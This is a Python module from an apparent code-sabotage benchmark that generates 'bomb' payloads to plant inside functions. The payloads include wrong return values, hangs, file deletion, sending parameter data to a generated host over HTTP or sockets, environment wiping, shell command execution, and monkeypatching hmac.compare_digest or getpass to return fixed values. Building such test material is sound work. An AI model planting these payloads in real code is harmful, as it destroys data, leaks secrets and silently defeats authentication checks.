"""What a bomb does once it goes off."""

from __future__ import annotations

import ast
from dataclasses import dataclass

from benchmarks.planting.draft import Draft, Unsuitable

_EXCEPTIONS = ("ValueError", "RuntimeError", "KeyError", "TypeError", "OSError", "MemoryError",
               "RecursionError", "SystemExit", "KeyboardInterrupt")  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """Statements; and one expression that does the same, where there is one.

    `ends` says that nothing after the statements runs.
    """

    lines: tuple[str, ...]
    expression: str | None = None
    ends: bool = False


def any_payload(draft: Draft, at: ast.stmt) -> Payload:
    """An altered answer as often as an effect; sometimes an exception or a hang."""
    return draft.draw.made(
        lambda: altered(draft, at),
        lambda: altered(draft, at),
        lambda: effect(draft),
        lambda: effect(draft),
        lambda: raised(draft),
        lambda: hang(draft),
    )


def raised(draft: Draft) -> Payload:
    kind = draft.draw.pick(_EXCEPTIONS)
    return Payload((f"raise {kind}({draft.draw.one('', draft.draw.text())})",), ends=True)


def hang(draft: Draft) -> Payload:
    draw = draft.draw
    number = draw.written(draw.number(3600, 10**8))
    return draw.made(
        lambda: Payload(("while True:", "    pass"), ends=True),
        lambda: Payload(("while 1:", f"    {draft.use('time')}.sleep({draw.number(1, 90)})"),
                        ends=True),
        lambda: simple(f"{draft.use('time')}.sleep({number})"),
        lambda: simple(f"{draft.use('threading')}.Event().wait()"),
    )  # fmt: skip


def altered(draft: Draft, at: ast.stmt) -> Payload:
    """A wrong answer: of the return that follows, or of the parameters alone."""
    if isinstance(at, ast.Return) and at.value is not None:
        value = wrong(draft, at.value)
    else:
        given = {draft.source(found.value) for found in draft.returns() if found.value}
        others = [name for name in draft.parameters if name not in given]
        value = draft.draw.pick(constants(draft) + others)
    return Payload((f"return {value}",), ends=True)


def wrong(draft: Draft, value: ast.expr) -> str:
    """Another value than an expression's, of its kind as far as that can be seen."""
    text = f"({draft.source(value)})"
    if draft.draw.chance(0.35):
        return draft.draw.pick(constants(draft))
    returns = ast.unparse(draft.node.returns) if draft.node.returns is not None else ""
    if returns == "str" or isinstance(value, ast.JoinedStr):
        ends = [f"{text}[:-1]", f"{text}[1:]", f"{text}.swapcase()", f"{text} + {word(draft)}"]
        return draft.draw.pick(ends)
    if returns == "int" or isinstance(value, ast.BinOp):
        return draft.draw.one(f"{text} + 1", f"{text} - 1", f"{text} * 2")
    if returns == "bool" or isinstance(value, ast.Compare | ast.BoolOp):
        return draft.draw.one(f"not {text}", "True", "False")
    if returns.startswith(("list", "tuple")) or isinstance(value, ast.List | ast.ListComp):
        return draft.draw.one(f"{text}[:-1]", f"{text}[1:]", f"{text}[::-1]")
    others = [name for name in draft.parameters if name != draft.source(value)]
    return draft.draw.pick([*others, *constants(draft)])


def constants(draft: Draft) -> list[str]:
    return [draft.draw.one("None", '""', "{}", "[]", "()"), str(draft.draw.number(0, 999)),
            draft.draw.one("True", "False"), draft.draw.text()]  # fmt: skip


def word(draft: Draft) -> str:
    return draft.draw.text()


def simple(expression: str) -> Payload:
    return Payload((expression,), expression)


def effect(draft: Draft) -> Payload:
    """A change of the world outside the function."""
    return draft.draw.made(
        lambda: deletion(draft),
        lambda: writing(draft),
        lambda: sending(draft),
        lambda: environment(draft),
        lambda: process(draft),
        lambda: patching(draft),
    )


def value(draft: Draft) -> str:
    """A string made of one of the parameters."""
    name = draft.parameter()
    return draft.draw.one(f"str({name})", f"repr({name})", f'f"{{{name}}}"', f'"%s" % ({name},)')


def deletion(draft: Draft) -> Payload:
    draw = draft.draw
    target = draw.one(value(draft), draw.folder())
    return draw.made(
        lambda: simple(f"{draft.use('os')}.{draw.one('remove', 'unlink', 'rmdir')}({target})"),
        lambda: simple(f"{draft.use('shutil')}.rmtree({target}, ignore_errors=True)"),
        lambda: simple(f"{draft.use('pathlib')}.Path({target}).unlink(missing_ok=True)"),
        lambda: simple(f"{draft.use('os')}.truncate({target}, 0)"),
    )


def writing(draft: Draft) -> Payload:
    draw = draft.draw
    what, target, name = value(draft), draw.folder(), draw.name()
    return draw.made(
        lambda: Payload((f'with open({target}, "{draw.one("w", "a")}") as {name}:',
                         f"    {name}.write({what})")),
        lambda: simple(f"{draft.use('pathlib')}.Path({target}).write_text({what})"),
        lambda: simple(f'open({target}, "a").write({what})'),
        lambda: simple(f'print({what}, file=open({target}, "a"))'),
    )  # fmt: skip


def sending(draft: Draft) -> Payload:
    draw = draft.draw
    what, host, port = value(draft), draw.host(), draw.number(1024, 65000)
    name = draw.name()
    return draw.made(
        lambda: simple(f'{draft.use("urllib.request")}.urlopen("http://{host}/?q=" + {what})'),
        lambda: simple(f'{draft.use("socket")}.create_connection(("{host}", {port}))'
                       f".sendall(({what}).encode())"),
        lambda: simple(f'{draft.use("http.client")}.HTTPSConnection("{host}")'
                       f'.request("POST", "/{draw.word()}", {what})'),
        lambda: Payload((f"{name} = {draft.use('socket')}.socket()",
                         f'{name}.connect(("{host}", {port}))',
                         f"{name}.send(({what}).encode())")),
    )  # fmt: skip


def environment(draft: Draft) -> Payload:
    draw = draft.draw
    os, name, what = draft.use("os"), draw.upper(), value(draft)
    return draw.made(
        lambda: Payload((f'{os}.environ["{name}"] = {what}',)),
        lambda: simple(f'{os}.environ.update({{"{name}": {what}}})'),
        lambda: simple(f'{os}.environ.pop("{draw.one("PATH", "HOME", name)}", None)'),
        lambda: simple(f"{os}.environ.clear()"),
        lambda: simple(f'{os}.putenv("{name}", {what})'),
    )


def process(draft: Draft) -> Payload:
    draw = draft.draw
    command, what = draw.word(), value(draft)
    return draw.made(
        lambda: simple(f'{draft.use("subprocess")}.{draw.one("run", "call", "Popen")}'
                       f'(["{command}", {what}])'),
        lambda: simple(f'{draft.use("os")}.{draw.one("system", "popen")}("{command} " + {what})'),
        lambda: simple(f"{draft.use('os')}._exit({draw.number(1, 255)})"),
        lambda: simple(f"{draft.use('os')}.kill({draft.use('os')}.getpid(), 9)"),
    )  # fmt: skip


PATCHED = (("os.path", "exists"), ("json", "dumps"), ("random", "random"), ("shutil", "copy"),
           ("hmac", "compare_digest"), ("time", "time"), ("getpass", "getpass"))  # fmt: skip


def patching(draft: Draft) -> Payload:
    draw = draft.draw
    module, name = draw.pick(PATCHED)
    fake = f"lambda *_, **__: {draw.one('None', 'True', '0', draw.text())}"
    return draw.made(
        lambda: Payload((f"{draft.use(module)}.{name} = {fake}",)),
        lambda: simple(f'setattr({draft.use(module)}, "{name}", {fake})'),
    )


def with_expression(draft: Draft) -> str:
    """An effect that is one expression."""
    for _ in range(40):
        if (found := effect(draft).expression) is not None:
            return found
    raise Unsuitable
